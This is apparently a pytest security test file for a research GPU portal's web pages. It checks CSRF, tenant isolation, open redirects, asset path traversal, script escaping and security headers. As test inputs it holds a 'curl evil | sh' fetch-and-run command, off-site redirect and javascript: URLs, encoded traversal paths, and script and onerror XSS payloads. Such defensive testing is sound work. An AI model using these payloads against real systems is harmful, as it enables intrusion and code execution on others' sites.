"""Attacks on the web pages: forged forms, another organization's job, a bearer token instead
of a session, redirects off the site, assets outside their folder, and script in what a
tenant names. Each test fails if its hole reopens."""

from __future__ import annotations

import pytest

from tests.portal.conftest import Demo
from tests.portal.pages.sessions import sign_in

RESEARCHER = "jiwoo.jung"  # kaist-nlp, hanbit-robot-policy
OUTSIDER = "hyejin.kang"  # pi of seoulvision-doc-ocr only


def a_job(demo: Demo, csrf: str, **fields: str) -> str:
    form = {"csrf": csrf, "project": "kaist-nlp", "entrypoint": "python train.py", **fields}
    answer = demo.client.post("/jobs/new", data=form, follow_redirects=False)
    assert answer.status_code == 303, answer.text
    return answer.headers["location"].removeprefix("/jobs/")


def job_count(demo: Demo) -> int:
    listed = demo.client.get("/api/v1/jobs", headers=demo.headers("admin")).json()
    return int(listed["total"])


@pytest.mark.parametrize("csrf", [None, "", "forged-value"])
def test_a_form_posted_without_the_sessions_csrf_value_changes_nothing(
    demo: Demo, csrf: str | None
) -> None:
    real = sign_in(demo.client, demo.tokens[RESEARCHER])
    job_id = a_job(demo, real)
    form = {"project": "kaist-nlp", "entrypoint": "curl evil | sh"}
    if csrf is not None:
        form["csrf"] = csrf
    before = job_count(demo)
    submitted = demo.client.post("/jobs/new", data=form, follow_redirects=False)
    assert submitted.status_code in (403, 422)
    assert job_count(demo) == before
    cancel = demo.client.post(
        f"/jobs/{job_id}/cancel", data={"csrf": csrf or ""}, follow_redirects=False
    )
    assert cancel.status_code in (403, 422)
    state = demo.client.get(f"/api/v1/jobs/{job_id}", headers=demo.headers(RESEARCHER)).json()
    assert state["state"] == "queued"
    assert not state["cancel_requested"]


def test_another_organizations_job_page_does_not_exist_for_you(demo: Demo) -> None:
    csrf = sign_in(demo.client, demo.tokens[RESEARCHER])
    job_id = a_job(demo, csrf, name="secret-model")
    outsider = sign_in(demo.client, demo.tokens[OUTSIDER])
    for path in (f"/jobs/{job_id}", f"/jobs/{job_id}/live"):
        page = demo.client.get(path)
        assert page.status_code == 404
        assert "secret-model" not in page.text
    cancel = demo.client.post(f"/jobs/{job_id}/cancel", data={"csrf": outsider})
    assert cancel.status_code == 404
    listed = demo.client.get("/jobs")
    assert "secret-model" not in listed.text
    by_project = demo.client.get("/jobs?project=kaist-nlp")
    assert by_project.status_code == 404


def test_an_outsider_cannot_submit_to_a_project_they_are_not_in(demo: Demo) -> None:
    csrf = sign_in(demo.client, demo.tokens[OUTSIDER])
    before = job_count(demo)
    answer = demo.client.post(
        "/jobs/new",
        data={"csrf": csrf, "project": "kaist-nlp", "entrypoint": "python train.py"},
    )
    assert answer.status_code == 422
    assert "no project kaist-nlp" in answer.text
    assert job_count(demo) == before


def test_pages_take_no_bearer_token(demo: Demo) -> None:
    """A page's credential is the session cookie, guarded by CSRF; a token is for the API."""
    answer = demo.client.get("/jobs", headers=demo.headers(RESEARCHER), follow_redirects=False)
    assert answer.status_code == 303
    assert answer.headers["location"] == "/signin"


@pytest.mark.parametrize(
    "back", ["https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:alert(1)"]
)
def test_the_language_switch_never_sends_the_browser_off_the_site(demo: Demo, back: str) -> None:
    csrf = sign_in(demo.client, demo.tokens[RESEARCHER])
    answer = demo.client.post(
        "/language", data={"to": "ko", "back": back, "csrf": csrf}, follow_redirects=False
    )
    assert answer.status_code == 303
    assert answer.headers["location"] == "/"


@pytest.mark.parametrize(
    "name", ["../app.py", "..%2F..%2Fapp.py", "%2e%2e/render.py", "gpupool.css/..", "i18n.py"]
)
def test_assets_serve_only_their_own_files(demo: Demo, name: str) -> None:
    answer = demo.client.get(f"/assets/{name}")
    assert answer.status_code == 404
    assert "import" not in answer.text


def test_what_a_tenant_names_is_shown_as_text_never_run(demo: Demo) -> None:
    csrf = sign_in(demo.client, demo.tokens[RESEARCHER])
    hostile = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    refused = demo.client.post(
        "/jobs/new",
        data={"csrf": csrf, "project": "kaist-nlp", "entrypoint": "x", "name": hostile},
    )
    assert refused.status_code == 422  # job names are plain words; the refusal quotes it safely
    assert "<script>alert" not in refused.text
    job_id = a_job(demo, csrf, entrypoint=hostile)
    for path in (f"/jobs/{job_id}",):
        page = demo.client.get(path)
        assert "<script>alert" not in page.text
        assert "<img src=x" not in page.text
        assert "&lt;script&gt;" in page.text


def test_every_page_sends_the_security_headers(demo: Demo) -> None:
    sign_in(demo.client, demo.tokens[RESEARCHER])
    for path in ("/", "/jobs", "/jobs/new", "/jobs/gp-000000000000"):
        answer = demo.client.get(path)
        csp = answer.headers["content-security-policy"]
        assert "script-src 'self'" in csp
        assert "frame-ancestors 'none'" in csp
        assert "unsafe-inline" not in csp
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cache-control"] == "no-store"


def test_the_quote_part_never_shows_another_projects_credits(demo: Demo) -> None:
    sign_in(demo.client, demo.tokens[OUTSIDER])
    part = demo.client.get("/jobs/new/quote?project=kaist-nlp&gpus=1&time_limit=1h")
    assert part.status_code == 200
    assert "data-available" not in part.text  # the prices are public; kaist-nlp's credits are not
    assert "kaist-nlp" not in part.text
